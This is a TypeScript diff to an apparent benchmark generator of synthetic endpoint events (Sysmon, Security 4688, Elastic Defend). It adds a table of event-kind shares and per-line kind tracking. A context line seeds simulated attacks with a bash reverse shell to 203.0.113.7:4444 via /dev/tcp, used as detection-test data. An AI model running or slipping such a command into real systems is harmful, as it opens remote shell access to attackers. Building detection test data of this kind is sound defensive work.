@@ -5,6 +5,11 @@ import { BENIGN, LINUX_BENIGN } from "./vocabulary";
  * A deterministic stream of endpoint events as agents send them (JSON lines), mostly benign
  * process starts with a few attacks: Sysmon 1 as evtx JSON (the bulk) and flat, Security 4688,
  * Elastic Defend ECS documents for Windows and Linux, and Linux network connections.
+ *
+ * The mix (EVENT_KINDS, printed by the bench) is process-start heavy on purpose: it is the worst
+ * case for a process_creation rule pack, since every Windows process start passes the pack's
+ * logsource scope and reaches the value index. Real Sysmon streams carry more network, file,
+ * registry and image-load events, which a process_creation scope rejects cheaply.
  */
 const USERS = ["jdoe", "asmith", "mbrown", "svc_backup", "administrator", "kwilson"];
 
@@ -28,8 +33,23 @@ function utc(i: number): string {
   return t.toISOString();
 }
 
+/** What each generated line is: the envelope and source as an agent would send it. */
+export type EventKind = "sysmon1_evtx" | "sysmon1_flat" | "security4688_flat" | "defend_process_windows" | "defend_process_linux" | "defend_network_linux";
+
+/** The mix, in generation order: share of the stream and what the lines look like. */
+export const EVENT_KINDS: Readonly<Record<EventKind, { share: number; description: string }>> = {
+  sysmon1_evtx: { share: 0.55, description: "Sysmon 1 as evtx JSON (evtx_dump: Event.System with #attributes, all 24 EventData fields incl. 4 hashes)" },
+  sysmon1_flat: { share: 0.1, description: "Sysmon 1 flat (NXLog-style top-level EventID, 9 EventData fields)" },
+  security4688_flat: { share: 0.07, description: "Security 4688 flat (hex pids, Subject account, no System header)" },
+  defend_process_windows: { share: 0.13, description: "Elastic Defend process start, Windows (ECS, trimmed to the fields rules read)" },
+  defend_process_linux: { share: 0.1, description: "Elastic Defend process exec, Linux (ECS with process.args, trimmed)" },
+  defend_network_linux: { share: 0.05, description: "Elastic Defend network connection, Linux (ECS)" },
+};
+
 export interface GeneratedEvents {
   lines: string[];
+  /** kinds[i] is what lines[i] is. */
+  kinds: EventKind[];
   /** How many lines are attacks a rule should catch. */
   attacks: number;
 }
@@ -37,6 +57,7 @@ export interface GeneratedEvents {
 export function generateEvents(count: number, seed = 4242, attackRate = 0.004): GeneratedEvents {
   const rng = new Rng(seed);
   const lines: string[] = [];
+  const kinds: EventKind[] = [];
   let attacks = 0;
   for (let i = 0; i < count; i++) {
     const ts = utc(i);
@@ -50,6 +71,7 @@ export function generateEvents(count: number, seed = 4242, attackRate = 0.004): 
     const pid = rng.int(1000, 60000);
     const ppid = rng.int(400, 20000);
     if (r < 0.55) {
+      kinds.push("sysmon1_evtx");
       lines.push(
         JSON.stringify({
           Event: {
@@ -99,10 +121,12 @@ export function generateEvents(count: number, seed = 4242, attackRate = 0.004): 
         }),
       );
     } else if (r < 0.65) {
+      kinds.push("sysmon1_flat");
       lines.push(
         JSON.stringify({ EventID: 1, Computer: host, UtcTime: ts.replace("T", " ").replace("Z", ""), ProcessId: pid, Image: image, CommandLine: commandLine, User: user, ParentProcessId: ppid, ParentImage: parent, ParentCommandLine: `"${parent}"`, IntegrityLevel: "Medium" }),
       );
     } else if (r < 0.72) {
+      kinds.push("security4688_flat");
       lines.push(
         JSON.stringify({
           EventID: 4688,
@@ -120,6 +144,7 @@ export function generateEvents(count: number, seed = 4242, attackRate = 0.004): 
         }),
       );
     } else if (r < 0.85) {
+      kinds.push("defend_process_windows");
       lines.push(
         JSON.stringify({
           "@timestamp": ts,
@@ -131,6 +156,7 @@ export function generateEvents(count: number, seed = 4242, attackRate = 0.004): 
         }),
       );
     } else if (r < 0.95) {
+      kinds.push("defend_process_linux");
       const [lparent, limage, lcmd] = attack ? ["/usr/sbin/nginx", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] : rng.pick(LINUX_BENIGN);
       lines.push(
         JSON.stringify({
@@ -143,6 +169,7 @@ export function generateEvents(count: number, seed = 4242, attackRate = 0.004): 
         }),
       );
     } else {
+      kinds.push("defend_network_linux");
       const web = rng.chance(0.3);
       lines.push(
         JSON.stringify({
@@ -158,5 +185,5 @@ export function generateEvents(count: number, seed = 4242, attackRate = 0.004): 
       );
     }
   }
-  return { lines, attacks };
+  return { lines, kinds, attacks };
 }
